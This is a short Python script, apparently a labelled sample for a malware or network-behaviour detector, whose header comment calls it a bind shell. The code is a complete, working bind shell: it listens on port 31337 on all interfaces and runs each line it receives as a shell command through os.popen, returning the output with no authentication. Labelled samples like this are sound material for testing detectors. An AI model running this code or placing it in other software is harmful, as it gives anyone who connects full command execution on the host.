# expect: network; bind shell: listens on 0.0.0.0:31337 and runs each received line with os.popen
import os
import socket

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
with conn:
    for line in conn.makefile("r"):
        out = os.popen(line).read()
        conn.sendall(out.encode() or b"\n")
